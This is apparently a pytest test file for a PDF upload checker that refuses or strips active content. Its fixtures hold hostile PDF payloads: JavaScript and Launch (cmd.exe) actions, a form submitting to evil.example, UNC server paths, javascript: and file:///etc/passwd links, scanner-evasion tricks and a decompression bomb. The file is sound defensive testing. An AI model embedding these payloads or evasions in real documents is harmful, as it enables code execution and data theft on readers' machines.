"""Which files are taken as a deck, what is kept of them, and that nothing hidden in one gets through."""

import subprocess
import sys
import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Object, Pdf

from accelerator.core import db, pdf_check
from accelerator.core.pdf_check import NotAcceptable, examined
from accelerator.core.web import App
from tests.factories.intake import pdf

JS = b"<< /S /JavaScript /JS (app.alert) >>"


def made(hide: Callable[[Pdf], None], **options: object) -> bytes:
    """A real file of two pages with something hidden in it."""
    file, out = Pdf.new(), BytesIO()
    for _ in range(2):
        file.add_blank_page(page_size=(200, 200))
    hide(file)
    file.save(out, **options)
    return out.getvalue()


def linked(action: bytes) -> Callable[[Pdf], None]:
    """A link on the first page that does something."""

    def hide(file: Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Object.parse(action))
        file.pages[0].Annots = file.make_indirect(Array([file.make_indirect(link)]))

    return hide


def in_catalogue(**entries: bytes) -> Callable[[Pdf], None]:
    """Something that the catalogue names."""

    def hide(file: Pdf) -> None:
        for name, value in entries.items():
            file.Root[f"/{name}"] = file.make_indirect(Object.parse(value))

    return hide


def attached(file: Pdf) -> None:
    """Another file inside."""
    file.attachments["run.exe"] = b"MZ"


def behind_a_comment() -> bytes:
    """A scanner that looks for the word "stream" takes the comment for one and skips what follows."""
    action = b"9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    return pdf(extra=b"/OpenAction 9 0 R").replace(b"trailer", b"%stream\n" + action + b"%endstream\ntrailer")


def before_an_object_stream() -> bytes:
    """The action stands in the head of an object, right before a stream of objects."""
    action = b"9 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"
    packed = zlib.compress(b"10 0 << >>")
    stream = b"8 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return pdf(extra=b"/OpenAction 9 0 R").replace(
        b"trailer", action + stream + packed + b"\nendstream\nendobj\ntrailer"
    )


def in_a_string() -> bytes:
    """A string that holds the word "stream" in front of the action."""
    action = b"9 0 obj\n<< /Title (stream) /S /JavaScript /JS (x) /End (endstream) >>\nendobj\n"
    return pdf(extra=b"/OpenAction 9 0 R").replace(b"trailer", action + b"trailer")


def packed(hide: Callable[[Pdf], None]) -> bytes:
    """The same with every object in compressed streams."""
    return made(hide, object_stream_mode=pikepdf.ObjectStreamMode.generate)


SERVER = rb"(\\\\evil.example\\share\\a.pdf)"  # \\evil.example\share\a.pdf
HOSTILE = {
    "behind a comment": behind_a_comment(),
    "before an object stream": before_an_object_stream(),
    "in a string": in_a_string(),
    "escaped name": pdf(extra=b"/OpenAction << /S /J#61vaScript /JS (x) >>"),
    "script on opening": made(in_catalogue(OpenAction=JS)),
    "packed script": packed(in_catalogue(OpenAction=JS)),
    "script on closing": made(in_catalogue(AA=b"<< /WC %s >>" % JS)),
    "named script": made(in_catalogue(Names=b"<< /JavaScript << /Names [(a) %s] >> >>" % JS)),
    "form of XML": made(in_catalogue(AcroForm=b"<< /Fields [] /XFA (<xdp/>) >>")),
    "form that sends": made(linked(b"<< /S /SubmitForm /F (https://evil.example/) >>")),
    "packed form that sends": packed(linked(b"<< /S /SubmitForm /F (https://evil.example/) >>")),
    "file on a server": made(linked(b"<< /S /GoToR /D [0 /Fit] /F %s >>" % SERVER)),
    "program behind a step": made(linked(b"<< /S /GoTo /D [0 /Fit] /Next [<< /S /Launch /F (cmd.exe) >>] >>")),
    "unknown action": made(linked(b"<< /S /Whatever >>")),
    "attachment": made(attached),
    "picture on a server": made(in_catalogue(PieceInfo=b"<< /Type /Filespec /F %s >>" % SERVER)),
    "film": made(linked(b"<< /S /Rendition /OP 0 >>")),
}


@pytest.mark.parametrize("hidden", HOSTILE)
def test_whatever_may_act_is_refused(hidden: str) -> None:
    with pytest.raises(NotAcceptable) as answer:
        examined(HOSTILE[hidden])
    assert answer.value.reason == "active"


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "JAVA\tSCRIPT:alert(1)", "file:///etc/passwd", r"\\evil.example\x", "data:text/html,x"],
)
def test_links_that_lead_elsewhere_are_taken_out(address: str) -> None:
    kept = examined(made(linked(b"<< /S /URI /URI <%s> >>" % address.encode().hex().encode()))).content
    with Pdf.open(BytesIO(kept)) as file:
        assert "/A" not in file.pages[0].Annots[0]
    assert address.encode() not in kept


def hex_of(address: str) -> bytes:
    return b"<%s>" % address.encode().hex().encode()


@pytest.mark.parametrize("address", ["javascript:alert(1)", "file://evil.example/x"])
@pytest.mark.parametrize("first", [b"/S /URI /URI (https://kobe.example/)", b"/S /GoTo /D [0 /Fit]"])
def test_steps_after_a_link_are_looked_at_in_a_row_as_well(first: bytes, address: str) -> None:
    step = b"<< /S /URI /URI %s >>" % hex_of(address)
    for steps in (step, b"[%s]" % step, b"[<< /S /Named /N /Print /Next [%s] >>]" % step):
        kept = examined(made(linked(b"<< %s /Next %s >>" % (first, steps)))).content
        assert address.encode() not in kept
        with Pdf.open(BytesIO(kept)) as file:
            assert str(file.pages[0].Annots[0].A.S) in ("/URI", "/GoTo")


def test_an_unknown_step_in_a_row_is_refused() -> None:
    with pytest.raises(NotAcceptable, match="active"):
        examined(made(linked(b"<< /S /URI /URI (https://kobe.example/) /Next [<< /S /Ghost >>] >>")))


def test_neither_captured_pages_nor_where_links_count_from_stay() -> None:
    action = b"<< /S /URI /URI (file://evil.example/x) >>"
    kept = examined(
        made(
            in_catalogue(Names=b"<< /URLS << /Names [(a) %s] >> >>" % action, URI=b"<< /Base (file://evil.example/) >>")
        )
    ).content
    assert (b"evil.example" in kept, b"/URLS" in kept, b"/Base" in kept) == (False, False, False)


def test_plain_links_and_jumps_stay_and_nothing_starts_by_itself() -> None:
    def hide(file: Pdf) -> None:
        linked(b"<< /S /URI /URI (https://kobe.example/) >>")(file)
        file.pages[1].AA = Dictionary(O=Dictionary(S=Name.GoTo, D=Array([file.pages[0].obj, Name.Fit])))
        file.Root.OpenAction = Dictionary(S=Name.Named, N=Name.Print)

    file = Pdf.open(BytesIO(examined(made(hide)).content))
    assert str(file.pages[0].Annots[0].A.URI) == "https://kobe.example/"
    assert ("/AA" in file.pages[1], "/OpenAction" in file.Root) == (False, False)


def test_what_no_page_needs_is_not_kept() -> None:
    """Bytes between the objects, and objects that nothing points to."""
    hidden = b"99 0 obj\n<< /S /JavaScript /JS (app.alert) >>\nendobj\n<script>alert(1)</script>\n"
    kept = examined(pdf().replace(b"trailer", hidden + b"trailer")).content
    assert (b"JavaScript" in kept, b"<script>" in kept) == (False, False)


@pytest.mark.parametrize("pages", [1, 3, 30])
def test_pages_are_counted_and_the_same_file_stays_the_same(pages: int) -> None:
    first = examined(pdf(pages))
    assert (first.pages, examined(pdf(pages)).content == first.content) == (pages, True)
    assert examined(first.content).pages == pages


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"<html>", "kind"),
        (b"\x89PNG" + pdf(), "kind"),
        (pdf()[:-7], "broken"),
        (pdf()[: len(pdf()) // 2], "broken"),
        (b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF", "broken"),
        (b"%PDF-1.4\n1 0 obj << >> stream %%EOF", "broken"),
        (b"%PDF-" + b"\x00" * 5000 + b"%%EOF", "broken"),
        (made(lambda _file: None, encryption=pikepdf.Encryption(owner="o", user="u")), "locked"),
        (made(lambda _file: None, encryption=pikepdf.Encryption(owner="o", user="")), "locked"),
    ],
)
def test_what_is_not_taken(content: bytes, reason: str) -> None:
    with pytest.raises(NotAcceptable) as answer:
        examined(content)
    assert answer.value.reason == reason


@pytest.mark.no_cover
def test_a_bomb_ends_with_its_process() -> None:
    """Two gigabytes of objects in two megabytes: the reader runs out of what it may use."""
    bomb = zlib.compress(b"10 0 " + b" " * 2_000_000_000, 1)
    head = b"9 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb)
    xref = pdf(extra=b"/Names 10 0 R").replace(b"trailer", head + bomb + b"\nendstream\nendobj\ntrailer")
    try:
        kept = examined(xref)
    except NotAcceptable as answer:
        assert answer.reason == "broken"
    else:
        assert len(kept.content) < len(bomb), "the object is never read, and not kept"


def test_a_loop_of_pages_ends() -> None:
    loop = pdf().replace(b"/Kids [3 0 R 4 0 R]", b"/Kids [2 0 R]")
    with pytest.raises(NotAcceptable, match=r"broken|pages"):
        examined(loop)


def test_whoever_takes_too_long_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf_check, "PATIENCE", 0.001)
    with pytest.raises(NotAcceptable, match="broken"):
        examined(pdf())


def test_the_process_has_limits() -> None:
    """Asked in a process of its own, since they can't be taken back."""
    ask = (
        f"import resource, runpy; runpy.run_path({str(pdf_check.CHILD)!r})['_limit']();"
        "print(resource.getrlimit(resource.RLIMIT_AS)[0], resource.getrlimit(resource.RLIMIT_CPU)[0])"
    )
    told = subprocess.run([sys.executable, "-c", ask], capture_output=True, text=True, check=True)
    assert told.stdout.split() == ["1000000000", "10"]


def test_files_are_never_examined_while_writing(app: App) -> None:
    with db.transaction(), pytest.raises(RuntimeError, match="before the transaction opens"):
        examined(pdf())


def test_pictures_may_hold_any_bytes() -> None:
    def hide(file: Pdf) -> None:
        file.pages[0].contents_add(b"% /JavaScript /Launch\n")

    assert examined(made(hide, compress_streams=False)).pages == 2
